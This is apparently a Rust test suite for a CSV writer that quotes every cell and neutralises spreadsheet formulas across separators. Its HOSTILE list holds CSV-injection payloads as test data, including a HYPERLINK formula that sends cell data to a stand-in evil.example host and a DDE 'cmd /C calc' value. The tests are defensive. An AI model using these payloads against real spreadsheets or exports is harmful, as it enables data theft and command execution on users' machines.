//! The formula-safe CSV writer: every cell quoted, and nothing a spreadsheet could run as a
//! formula, whichever separator the spreadsheet reads the file with.
use console_core::csv::{Separator, Writer};

/// Characters a spreadsheet runs as (or in front of) a formula at the start of a cell.
const RISKY: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

const HOSTILE: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"click\")",
    "x;=2+5",
    "x,=2+5",
    "x\t=2+5",
    "x|=2+5",
    "x; =2+5",
    "x;;=cmd|' /C calc'!A0",
    "x\n=2+5",
    "x\r\n@SUM(1)",
    "\"=1\"",
    "a\"=1",
    "  =1",
    "x;\t=1",
    "-",
    "=",
    ";=;+;-;@",
];

/// RFC 4180 with a given separator: what a spreadsheet that honours quotes reads.
fn parse(text: &str, separator: char) -> Vec<Vec<String>> {
    let mut rows = vec![];
    let mut row = vec![];
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) if c == separator => row.push(std::mem::take(&mut cell)),
            (false, c) => cell.push(c),
        }
    }
    rows
}

/// The start of every field a careless reader could make of `text`: split on any separator of
/// any locale or line break, ignoring quotes, then leading spaces and quotes trimmed.
fn naive_field_starts(text: &str) -> Vec<String> {
    text.split([',', ';', '\t', '|', '\n', '\r'])
        .map(|f| f.trim_start_matches([' ', '"']).to_owned())
        .collect()
}

fn write(rows: &[&[&str]], separator: Separator) -> String {
    let mut writer = Writer::new(separator);
    for row in rows {
        writer.row(row.iter().copied());
    }
    writer.finish()
}

#[test]
fn every_cell_is_quoted_and_plain_values_read_back_unchanged() {
    for separator in [Separator::Comma, Separator::Semicolon, Separator::Tab] {
        let text = write(
            &[
                &["name", "email"],
                &["Zoë O\"Brien, Jr.", "zoe@example.com"],
                &["", "1"],
            ],
            separator,
        );
        let s = separator.as_char();
        assert_eq!(
            text.split("\r\n").next().unwrap(),
            format!("\"name\"{s}\"email\"")
        );
        assert!(text.ends_with("\r\n"));
        assert_eq!(
            parse(&text, s),
            [
                vec!["name", "email"],
                vec!["Zoë O\"Brien, Jr.", "zoe@example.com"],
                vec!["", "1"]
            ]
        );
    }
}

#[test]
fn hostile_values_read_back_as_text_with_every_separator() {
    for separator in [Separator::Comma, Separator::Semicolon, Separator::Tab] {
        let rows: Vec<[&str; 2]> = HOSTILE.iter().map(|v| ["ok", *v]).collect();
        let rows: Vec<&[&str]> = rows.iter().map(|r| r.as_slice()).collect();
        let text = write(&rows, separator);
        // Read with the separator it was written with, and with every other one.
        for read_with in [',', ';', '\t', '|'] {
            for row in parse(&text, read_with) {
                for field in row {
                    let start = field.trim_start_matches(' ');
                    assert!(
                        !start.starts_with(RISKY),
                        "written with {separator:?}, read with {read_with:?}: {field:?}"
                    );
                }
            }
        }
        for start in naive_field_starts(&text) {
            assert!(!start.starts_with(RISKY), "{separator:?}: {start:?}");
        }
    }
}

#[test]
fn neutralising_only_adds_an_apostrophe_before_the_risky_part() {
    let text = write(
        &[&["x;=2+5", "=1", "  =1", "a-b", "2026-11-29", "x; y"]],
        Separator::Comma,
    );
    assert_eq!(
        parse(&text, ',')[0],
        ["x;'=2+5", "'=1", "'  =1", "a-b", "2026-11-29", "x; y"]
    );
}
